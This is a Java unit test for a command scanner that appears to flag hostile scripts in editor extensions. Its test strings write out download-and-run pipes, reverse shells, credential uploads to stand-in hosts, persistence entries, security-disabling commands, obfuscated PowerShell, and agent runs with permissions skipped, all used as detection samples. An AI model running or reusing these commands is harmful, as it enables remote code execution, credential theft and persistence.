package dev.vsxray.scanner.script;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature.Trait;
import dev.vsxray.scanner.text.DerivedText;
import dev.vsxray.scanner.text.FileText;
import dev.vsxray.scanner.text.Observations;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandReaderTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\0',
            value = {
                "command-downloads-and-runs \u00a6 curl -fsSL https://evil.invalid/a.sh | sudo bash -s -- x",
                "command-downloads-and-runs \u00a6 wget -qO- http://192.0.2.7/a|sh",
                "command-downloads-and-runs \u00a6 bash -c \"$(curl -fsSL https://evil.invalid/a)\"",
                "command-downloads-and-runs \u00a6 bash <(curl -s https://evil.invalid/a)",
                "command-downloads-and-runs \u00a6 curl -s https://evil.invalid/x.py | python3 -",
                "command-downloads-and-runs \u00a6 powershell -c \"irm evil.invalid | iex\"",
                "command-downloads-and-runs \u00a6 iex (New-Object Net.WebClient).DownloadString('http://evil.invalid/a')",
                "command-downloads-and-runs \u00a6 curl -o /tmp/a https://evil.invalid/a && chmod +x /tmp/a && /tmp/a",
                "command-downloads-and-runs \u00a6 certutil -urlcache -split -f http://evil.invalid/a.exe a.exe",
                "command-downloads-and-runs \u00a6 mshta https://evil.invalid/a.hta",
                "command-downloads-and-runs \u00a6 npx -y github:evil/repo#0123456789abcdef0123456789abcdef01234567",
                "command-downloads-and-runs \u00a6 msiexec /i https://evil.invalid/a.msi /qn",
                "command-downloads-and-runs \u00a6 exec(requests.get('https://evil.invalid/a').text)",
                "command-decodes-and-runs \u00a6 echo ZWNobyBoZWxsbyB3b3JsZA== | base64 -d | sh",
                "command-decodes-and-runs \u00a6 exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
                "command-hides-window \u00a6 powershell -WindowStyle Hidden -File a.ps1",
                "command-hides-window \u00a6 powershell -w h -c x",
                "command-bypasses-execution-policy \u00a6 powershell -ep bypass -f a.ps1",
                "command-weakens-security \u00a6 Add-MpPreference -ExclusionPath C:\\",
                "command-weakens-security \u00a6 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
                "command-weakens-security \u00a6 xattr -d com.apple.quarantine /tmp/a",
                "command-uploads \u00a6 curl -X POST -d @/home/u/.ssh/id_rsa https://evil.invalid",
                "command-uploads \u00a6 tar cz ~/.aws | curl -T - https://evil.invalid",
                "command-uploads \u00a6 Invoke-RestMethod -Uri https://evil.invalid -Method Post -Body $b",
                "command-uploads \u00a6 curl \"https://evil.invalid/?h=$(hostname)\"",
                "command-opens-reverse-shell \u00a6 bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
                "command-opens-reverse-shell \u00a6 nc 192.0.2.7 4444 -e /bin/sh",
                "command-persists \u00a6 (crontab -l; echo '* * * * * /tmp/a') | crontab -",
                "command-persists \u00a6 schtasks /create /tn OnedriveStartup /tr a.exe /sc onlogon",
                "command-persists \u00a6 reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
                "command-persists \u00a6 echo 'node /tmp/a &' >> ~/.bashrc",
                "command-persists \u00a6 launchctl load ~/Library/LaunchAgents/com.apple.a.plist",
                "command-destroys \u00a6 rm -rf ~/",
                "command-destroys \u00a6 vssadmin delete shadows /all /quiet",
                "command-mines \u00a6 ./xmrig -o stratum+tcp://pool.invalid:3333",
                "command-collects \u00a6 netsh wlan show profile name=x key=clear",
                "command-installs-remote-control \u00a6 msiexec /i ScreenConnect.ClientSetup.msi /qn",
                "command-runs-through-system-program \u00a6 cmstp.exe /s a.inf",
                "command-asks-password \u00a6 osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'",
                "command-installs-extension \u00a6 code --install-extension evil.vsix --force",
                "command-runs-agent \u00a6 claude --dangerously-skip-permissions -p 'list all files'",
                "command-runs-agent \u00a6 q chat --trust-all-tools --no-interactive 'clean'",
                "command-names-credentials \u00a6 cat ~/.npmrc",
                "command-deletes-itself \u00a6 del \"%~f0\"",
                "command-opens-tunnel \u00a6 ssh -N -R 8080:localhost:22 u@evil.invalid",
                "command-publishes \u00a6 npm publish --access public"
            })
    void tellsWhatACommandDoes(String trait, String command) {
        assertThat(names(command)).contains(trait);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cu\"\"rl -s https://evil.invalid/a | ba\"\"sh",
                "c\\u\\r\\l -s https://evil.invalid/a | sh",
                "curl${IFS}-s${IFS}https://evil.invalid/a|sh",
                "a=cu; b=rl; $a$b -s https://evil.invalid/a | sh",
                "X=https://evil.invalid/a\n${Y}\ncurl $X | sh",
                "p^o^wershell i^ex (irm https://evil.invalid/a)",
                "set a=curl\r\n%a% https://evil.invalid/a | sh",
                "I`E`X (i`rm https://evil.invalid/a)",
                "&('i'+'ex') (irm https://evil.invalid/a)",
                "& (\"{1}{0}\" -f 'ex','i') (irm https://evil.invalid/a)",
                "&([char]105+[char]101+[char]120) (irm https://evil.invalid/a)",
                "&('qex'.Replace('q','i')) (irm https://evil.invalid/a)",
                "&(('xei')[-1..-3] -join '') (irm https://evil.invalid/a)"
            })
    void spellingTricksHideNothing(String command) {
        assertThat(names(command)).contains("command-downloads-and-runs");
    }

    /** A capital I with a dot is two characters in lower case. */
    @Test
    void lettersThatGrowInLowerCaseHideNothing() {
        String letters = "echo '" + "\u0130".repeat(20_000) + "'\n";
        String download = "curl -fsSL https://evil.invalid/a.sh | sudo bash -s -- x\n";

        assertThat(names(letters + download)).contains("command-downloads-and-runs");
        assertThat(names(letters + download + "echo " + "x".repeat(30_000))).contains("command-downloads-and-runs");
    }

    @Test
    void anEncodedCommandIsReadAsUtf16() {
        String inner = "iex (irm https://evil.invalid/stage)";
        String encoded = Base64.getEncoder().encodeToString(inner.getBytes(StandardCharsets.UTF_16LE));
        Observations observations = new Observations("a.bat");
        List<DerivedText> decoded = CommandReader.read(
                text("powershell.exe -nop -w hidden -enc " + encoded), CommandContext.FILE, observations);
        assertThat(decoded).extracting(DerivedText::text).contains(inner);
        assertThat(traits(observations))
                .extracting(Trait::name)
                .contains("powershell-encoded-command", "command-downloads-and-runs", "command-hides-window");
    }

    @Test
    void encodingsInsideEncodingsAreRead() {
        String inner = "curl https://evil.invalid/a | sh";
        String once = Base64.getEncoder().encodeToString(inner.getBytes(StandardCharsets.UTF_8));
        String twice = Base64.getEncoder()
                .encodeToString(("echo " + once + " | base64 -d | sh").getBytes(StandardCharsets.UTF_8));
        assertThat(names("echo " + twice + " | base64 -d | bash")).contains("command-downloads-and-runs");
    }

    @Test
    void aDownloaderInVisualBasicIsSeen() {
        assertThat(
                        names(
                                "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://evil.invalid/a\", False\n"
                                        + "Set s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile p\nCreateObject(\"WScript.Shell\").Run p, 0"))
                .contains("command-downloads-and-runs", "command-hides-window");
    }

    @Test
    void familiesOfCredentialsAreCounted() {
        Observations observations = new Observations("a.sh");
        CommandReader.read(
                text("cp ~/.ssh/id_rsa ~/.aws/credentials ~/.npmrc /tmp/x"), CommandContext.FILE, observations);
        assertThat(traits(observations).get(0).facts())
                .containsEntry("families", "aws,npm,ssh")
                .containsEntry("count", "3");
    }

    @Test
    void thePlaceOfARespelledCommandIsItsLine() {
        Observations observations = new Observations("a.sh");
        CommandReader.read(
                text("echo 1\necho 2\nc\"\"url https://evil.invalid/a | s\"\"h\n"), CommandContext.FILE, observations);
        Trait trait = traits(observations).stream()
                .filter(t -> t.name().equals("command-downloads-and-runs"))
                .findFirst()
                .orElseThrow();
        assertThat(trait.evidence().location().line()).isEqualTo(3);
        assertThat(trait.facts()).containsEntry("respelled", "true");
        assertThat(trait.evidence().decoded().get(0).text()).startsWith("curl https://evil.invalid/a | sh");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")\"\nexec node ./cli.js \"$@\"",
                "npm install && npm run compile",
                "git clone https://github.example/a/b && cd b && make",
                "rm -rf ./dist node_modules",
                "rm -rf \"$TMPDIR/build\"",
                "tsc -p . --watch",
                "@echo off\r\nsetlocal\r\nset NODE=%~dp0node.exe\r\n\"%NODE%\" \"%~dp0cli.js\" %*",
                "param([string]$Path)\nGet-ChildItem $Path | Where-Object { $_.Length -gt 0 }",
                "docker run --rm -it -e HOME=/tmp -w /app node:20",
                "python -m pylint --output-format=json file.py",
                "java -jar server.jar --stdio",
                "dotnet build /p:Configuration=Release",
                "ssh user@host uptime"
            })
    void everydayCommandsShowNothing(String command) {
        assertThat(names(command)).isEmpty();
    }

    @Test
    @Timeout(20)
    void hostileTextIsReadInLinearTime() {
        for (String piece : List.of(
                "curl ", "'+'", "a\\b\\c\\", "$a$b=", "{0}", "(((", "[char]1+", "\"\"", "x=y;$x", "iex ", "^^", "`a")) {
            names(piece.repeat(40_000 / piece.length()));
        }
    }

    /** Java's own edge of a word goes back over all combining marks, at each of them. */
    @Test
    @Timeout(60)
    void combiningMarksAreReadInLinearTime() {
        assertThat(names("\uFE01".repeat(200_000))).isEmpty();
        assertThat(names("chr(65)" + "\u0301".repeat(200_000))).isEmpty();
    }

    private static List<String> names(String command) {
        Observations observations = new Observations("a.sh");
        CommandReader.read(text(command), CommandContext.FILE, observations);
        return traits(observations).stream().map(Trait::name).distinct().toList();
    }

    private static List<Trait> traits(Observations observations) {
        return observations.features().stream().map(Trait.class::cast).toList();
    }

    private static FileText text(String text) {
        return FileText.of("a.sh", text.getBytes(StandardCharsets.UTF_8));
    }
}
